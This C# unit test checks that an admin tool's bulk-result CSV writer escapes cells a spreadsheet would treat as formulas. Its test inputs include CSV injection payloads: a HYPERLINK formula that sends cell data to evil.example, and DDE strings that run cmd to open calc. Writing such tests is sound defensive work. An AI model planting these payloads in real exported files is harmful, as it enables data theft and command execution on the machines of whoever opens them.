using OtpEmail.Admin.Common;
using OtpEmail.Admin.Features.Bulk;
using OtpEmail.Admin.Infrastructure.Errors;

namespace OtpEmail.Admin.Tests.Features.Bulk;

public sealed class BulkResultFileTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"")]
    [InlineData("-2+3", "\"'-2+3\"")]
    [InlineData("\t=1+1", "\"'\t=1+1\"")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    public void ACellASpreadsheetWouldTakeForAFormulaIsWrittenAsQuotedText(string text, string cell)
    {
        // Every text cell goes through the same rule; here a row's error id and message carry the text.
        var failed = new BulkRowResult(7, "FAILED", null, ErrorBody.From(new AppError(ErrorCode.InvalidArgument, text, text)), null);

        var file = BulkResultFile.Write([failed]);

        Assert.Equal($"{BulkResultFile.Header}\r\n7,FAILED,,3,{cell},{cell},\r\n", file);
    }
}
